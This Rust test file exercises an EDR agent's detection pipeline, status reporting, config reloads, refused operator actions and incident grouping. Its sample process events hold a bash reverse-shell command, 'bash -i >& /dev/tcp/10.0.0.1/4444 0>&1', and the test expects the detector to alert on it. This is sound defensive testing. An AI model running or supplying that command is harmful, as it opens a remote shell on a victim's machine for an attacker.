//! The agent loop in the process, without the binary: an agent built on a
//! temporary data dir with events fed through a channel, one real detection
//! plugin (`reverse-shell`, the component the workspace build made), its
//! alert in the record, status counters, requests through the handle,
//! reloads, an extension, and shutdown.

use edr_agent::control::Request;
use edr_agent::{Agent, AgentConfig, AgentError, AgentHandle, Caller, RunSummary, Shutdown};
use edr_event::Event;
use std::path::{Path, PathBuf};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

const REVSHELL: &str = r#"{"event":{"category":["process"],"type":["start"]},"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#;

/// The `reverse-shell` component the workspace build compiled (the newest
/// one under the target dir's build outputs).
fn reverse_shell_component() -> PathBuf {
    let target = std::env::var_os("CARGO_TARGET_DIR").map(PathBuf::from).unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../target"));
    let mut found: Vec<(std::time::SystemTime, PathBuf)> = Vec::new();
    for profile in ["release", "debug"] {
        let Ok(dirs) = std::fs::read_dir(target.join(profile).join("build")) else { continue };
        for d in dirs.flatten() {
            let p = d.path().join("out/plugins/edr-plugin-reverse-shell.wasm");
            if let Ok(m) = std::fs::metadata(&p).and_then(|m| m.modified()) {
                found.push((m, p));
            }
        }
    }
    found.sort();
    found.pop().map(|(_, p)| p).unwrap_or_else(|| panic!("no edr-plugin-reverse-shell.wasm under {}: run `cargo build --release` first", target.display()))
}

fn event(line: &str) -> Event {
    edr_event::ecs::event_from_json(line).unwrap()
}

/// A config file in `dir` (data dir `dir/data`, the plugin in `dir/plugins`), plus `extra`.
fn write_config(dir: &Path, extra: &str) -> PathBuf {
    let plugins = dir.join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    std::fs::copy(reverse_shell_component(), plugins.join("reverse-shell.wasm")).unwrap();
    let path = dir.join("edr.toml");
    let text = format!("data_dir = {:?}\n[plugins]\nbuiltin = false\ndir = {:?}\n[collect]\nsource = \"stdin\"\n{extra}", dir.join("data"), plugins);
    std::fs::write(&path, text).unwrap();
    path
}

struct Running {
    handle: AgentHandle,
    shutdown: Shutdown,
    events: Option<crossbeam_channel::Sender<Event>>,
    thread: Option<JoinHandle<anyhow::Result<RunSummary>>>,
}

impl Running {
    fn start(config: &Path, build: impl FnOnce(edr_agent::AgentBuilder) -> edr_agent::AgentBuilder) -> Running {
        let (tx, rx) = crossbeam_channel::bounded(1024);
        let cfg = AgentConfig::load(config).unwrap();
        let agent = build(Agent::builder(cfg).config_file(config).events(rx)).build().unwrap();
        let handle = agent.handle();
        let shutdown = Shutdown::new();
        let s = shutdown.clone();
        let thread = std::thread::spawn(move || agent.run(s));
        Running { handle, shutdown, events: Some(tx), thread: Some(thread) }
    }

    fn send(&self, e: Event) {
        self.events.as_ref().unwrap().send(e).unwrap();
    }

    fn stop(mut self) -> RunSummary {
        self.shutdown.trigger();
        self.thread.take().unwrap().join().unwrap().unwrap()
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.shutdown.trigger();
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn wait_for(what: &str, mut cond: impl FnMut() -> bool) {
    let start = Instant::now();
    while !cond() {
        assert!(start.elapsed() < Duration::from_secs(60), "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn events_in_alert_recorded_status_counts_reload_and_shutdown() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "[output]\nstdout = false\n[runtime]\nbatch_timeout_ms = 5\n");
    let agent = Running::start(&config, |b| b);
    let h = agent.handle.clone();

    let before = h.status().unwrap();
    assert_eq!(before.pipeline.events, 0);
    assert_eq!(before.plugins.len(), 1, "{:?}", before.plugins);
    agent.send(event(REVSHELL));
    wait_for("the alert in the record", || {
        h.query("SELECT rule_id FROM alert").map(|r| r.rows.iter().any(|row| row[0] == "edr.revshell.dev-tcp")).unwrap_or(false)
    });
    let s = h.status().unwrap();
    assert_eq!(s.pipeline.events, 1);
    assert_eq!(s.plugins[0].metrics.events, 1, "{:?}", s.plugins[0]);
    assert!(s.plugins[0].metrics.findings >= 1, "{:?}", s.plugins[0]);
    let alerts = std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap();
    assert!(alerts.contains("edr.revshell.dev-tcp"), "{alerts}");

    // The JSON shape `edr status --json` prints.
    let json = serde_json::to_value(&s).unwrap();
    for key in ["store", "response", "source", "collectors", "agent", "pipeline", "plugins", "packs", "config", "actions", "outputs"] {
        assert!(json.get(key).is_some(), "status lacks `{key}`: {json:#}");
    }
    assert_eq!(json["source"], "stdin");
    assert_eq!(json["pipeline"]["queued_events"], 0);
    assert_eq!(json["actions"], serde_json::json!({"done": 0, "simulated": 0, "refused": 0, "failed": 0}));
    // The same document through the control-socket handler.
    let reply = h.execute(Caller::via("test", 0), Request::Status);
    assert!(reply.ok, "{reply:?}");
    assert_eq!(reply.result.unwrap()["pipeline"]["events"], 1);
    let reply = h.execute(Caller::via("test", 0), Request::Reenable { plugin: "nope".into() });
    assert_eq!(reply.error.as_deref(), Some("no plugin `nope`"));

    // Reload: [output] applies at once, [runtime] waits for a restart.
    write_config(dir.path(), "[output]\nstdout = false\nalerts_file = \"alerts-2.jsonl\"\n[runtime]\nbatch_timeout_ms = 6\n");
    let report = h.reload().unwrap();
    assert_eq!(report.applied, vec!["output".to_string()], "{report:?}");
    assert_eq!(report.restart_needed, vec!["runtime".to_string()], "{report:?}");
    // Another process: the same one again would be a repeat in its incident
    // (recorded, not re-sent to the outputs).
    agent.send(event(&REVSHELL.replace("4242", "4243")));
    wait_for("the alert in the new alerts file", || {
        std::fs::read_to_string(dir.path().join("data/alerts-2.jsonl")).is_ok_and(|t| t.contains("edr.revshell.dev-tcp"))
    });
    // A broken file is refused, named by line; the running config stays.
    std::fs::write(&config, "[runtime]\nbatch_size = 0\n").unwrap();
    let err = h.reload().unwrap_err().to_string();
    assert!(err.contains("line 2") && err.contains("runtime.batch_size"), "{err}");
    let s = h.status().unwrap();
    assert_eq!((s.config.reloads, s.config.reload_failures), (1, 1), "{:?}", s.config);
    assert_eq!(s.config.restart_needed, vec!["runtime".to_string()]);

    let summary = agent.stop();
    assert_eq!((summary.events, summary.source_ended), (2, false));
    assert!(summary.alerts >= 2, "{summary:?}");
    assert!(!dir.path().join("data/control.sock").exists(), "the control socket is removed at the end");
    assert!(matches!(h.status(), Err(AgentError::Stopped)), "a handle on a stopped agent says so");
}

#[test]
fn operator_requests_through_the_handle_are_audited_in_respond() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "[output]\nstdout = false\n");
    let agent = Running::start(&config, |b| b);
    let h = agent.handle.clone();
    // pid 1 is protected: refused, audited (journal, counters, record).
    let reply = h.execute(
        Caller::via("fleet", 0),
        Request::Respond { action: serde_json::json!({"action": "kill", "target": {"pid": 1, "tree": false}}), reason: "test".into() },
    );
    assert!(!reply.ok, "{reply:?}");
    let record = reply.result.unwrap();
    assert_eq!(record["decision"], "refused", "{record}");
    assert_eq!(record["requester"]["kind"], "operator");
    let journal = std::fs::read_to_string(dir.path().join("data/actions.jsonl")).unwrap();
    assert!(journal.lines().any(|l| l.contains("kill-process") && l.contains("refused")), "{journal}");
    assert_eq!(h.status().unwrap().actions.refused, 1);
    wait_for("the action in the record", || h.query("SELECT count(*) FROM action").map(|r| r.rows[0][0] == 1).unwrap_or(false));
    // Hostile requests get a clear error, not a panic.
    let reply = h.execute(Caller::local(0), Request::Respond { action: serde_json::json!({"action": "format-disk"}), reason: String::new() });
    assert!(reply.error.unwrap().starts_with("bad action"), "unknown actions are refused");
    let reply = h.execute(Caller::local(0), Request::Query { sql: "DELETE FROM alert".into() });
    assert!(!reply.ok, "the record is read-only through the handle: {reply:?}");
    let reply = h.execute(Caller::local(0), Request::Storyline { alert: 999, ancestors: false });
    assert!(!reply.ok, "{reply:?}");
    agent.stop();
}

#[test]
fn an_extension_gets_the_handle_and_stops_with_the_agent() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "[output]\nstdout = false\n");
    let (seen_tx, seen_rx) = crossbeam_channel::bounded(4);
    let mut agent = Running::start(&config, move |b| {
        b.with_task("probe", move |handle, shutdown| {
            seen_tx.send(handle.status()?.plugins.len())?;
            // Runs until the agent stops.
            while !shutdown.wait_timeout(Duration::from_secs(5)) {}
            seen_tx.send(usize::MAX)?;
            Ok(())
        })
    });
    assert_eq!(seen_rx.recv_timeout(Duration::from_secs(60)).unwrap(), 1, "the extension sees the running agent");
    // The source ending stops the agent, and the extension with it.
    drop(agent.events.take());
    let summary = agent.thread.take().unwrap().join().unwrap().unwrap();
    assert!(summary.source_ended);
    assert_eq!(seen_rx.recv_timeout(Duration::from_secs(10)).unwrap(), usize::MAX, "the extension was told to stop");
}

#[test]
fn a_second_agent_on_the_same_data_dir_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "[output]\nstdout = false\n[store]\nenabled = false\n");
    let first = Running::start(&config, |b| b);
    wait_for("the first agent's socket", || dir.path().join("data/control.sock").exists());
    std::thread::sleep(Duration::from_millis(100));
    let (_tx, rx) = crossbeam_channel::bounded(1);
    let second = Agent::builder(AgentConfig::load(&config).unwrap()).events(rx).build().unwrap();
    let err = second.run(Shutdown::new()).unwrap_err().to_string();
    assert!(err.contains("another agent is already running"), "{err}");
    first.stop();
}

/// A reverse shell as ECS: `pid`/`entity` under `ppid`/`parent`.
fn revshell(pid: u32, entity: &str, ppid: u32, parent: &str, parent_exe: &str) -> Event {
    event(
        &serde_json::json!({
            "event": {"category": ["process"], "type": ["start"]},
            "process": {"pid": pid, "entity_id": entity, "executable": "/usr/bin/bash",
                        "args": ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                        "parent": {"pid": ppid, "entity_id": parent, "executable": parent_exe}},
        })
        .to_string(),
    )
}

#[test]
fn one_process_tree_is_one_incident_and_a_repeat_is_counted_not_resent() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "[output]\nstdout = false\n[runtime]\nbatch_timeout_ms = 5\n");
    let agent = Running::start(&config, |b| b);
    let h = agent.handle.clone();
    // nginx -> bash (alert) -> bash (alert); the first bash's event again
    // (the same rule on the same process: a repeat); another tree under sshd.
    agent.send(revshell(4242, "0000000000004242", 4200, "0000000000004200", "/usr/sbin/nginx"));
    agent.send(revshell(4243, "0000000000004243", 4242, "0000000000004242", "/usr/bin/bash"));
    agent.send(revshell(4242, "0000000000004242", 4200, "0000000000004200", "/usr/sbin/nginx"));
    agent.send(revshell(5000, "0000000000005000", 4900, "0000000000004900", "/usr/sbin/sshd"));
    let alerts = || h.query("SELECT id, pid, incident_id FROM alert ORDER BY id").map(|r| r.rows).unwrap_or_default();
    wait_for("four alerts in the record", || alerts().len() == 4);
    let rows = alerts();
    let incident = |i: usize| rows[i][2].as_u64().expect("every alert names its incident");
    assert_eq!((incident(0), incident(1), incident(2)), (rows[0][0].as_u64().unwrap(), incident(0), incident(0)), "{rows:?}");
    assert_ne!(incident(3), incident(0), "another tree, another incident");
    let i = h.query(&format!("SELECT alert_count, suppressed, root_pid FROM incident WHERE id = {}", incident(0))).unwrap();
    assert_eq!(i.rows[0], vec![serde_json::json!(3), serde_json::json!(1), serde_json::json!(4200)]);
    let summary = agent.stop();
    assert_eq!(summary.alerts, 4, "the record got every alert");
    let sent: Vec<serde_json::Value> =
        std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(sent.len(), 3, "the repeat was not re-sent: {sent:#?}");
    let fields: Vec<(String, u64, u64)> = sent
        .iter()
        .map(|a| {
            let i = &a["edr"]["incident"];
            (i["id"].as_str().unwrap().to_string(), i["alert_count"].as_u64().unwrap(), i["suppressed"].as_u64().unwrap())
        })
        .collect();
    let first = incident(0).to_string();
    assert_eq!(fields[..2], [(first.clone(), 1, 0), (first, 2, 0)]);
    assert_eq!(fields[2].1, 1);
}
